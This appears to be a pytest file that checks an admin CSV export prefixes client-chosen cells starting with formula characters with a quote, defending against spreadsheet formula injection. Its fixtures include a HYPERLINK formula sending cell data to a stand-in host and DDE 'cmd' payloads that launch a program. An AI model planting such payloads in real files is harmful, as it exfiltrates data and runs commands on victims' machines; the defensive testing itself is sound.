"""The admin's CSV export never hands a spreadsheet a formula (issue 19, item 9): a cell that a
client chose and that begins with =, +, -, @, TAB or CR comes out behind a single quote."""

import csv
import io

import pytest

from integration.admin.pages import post_mail

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def exported(client):
    """The CSV export of every mail, as a list of dicts."""
    response = client.get("/admin/email/export.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_subject_that_is_a_formula_is_exported_as_text(client, formula):
    post_mail(client, subject=formula)
    [row] = exported(client)
    assert row["subject"] == f"'{formula}"


def test_a_sender_name_and_tags_that_are_formulas_are_exported_as_text(client):
    post_mail(
        client,
        **{"from": "=cmd|' /C calc'!A0 <shop@example.com>", "tags": ["@SUM(A1)"]},
    )
    [row] = exported(client)
    assert row["from_address"] == "'=cmd|' /C calc'!A0 <shop@example.com>"
    assert row["tags"] == "'@SUM(A1)"


def test_a_provider_answer_that_is_a_formula_is_exported_as_text(client, sql):
    # A provider's answer is kept as the mail's last error, CR and all.
    post_mail(client)
    sql("UPDATE email SET last_error = :error", error="\r=1+1")
    [row] = exported(client)
    assert row["last_error"] == "'\r=1+1"


def test_ordinary_cells_are_exported_as_they_are(client):
    mail_id = post_mail(client, subject="Order 12 - shipped = done")
    [row] = exported(client)
    assert row["subject"] == "Order 12 - shipped = done"
    assert row["id"] == mail_id and row["attempts"] == "0"
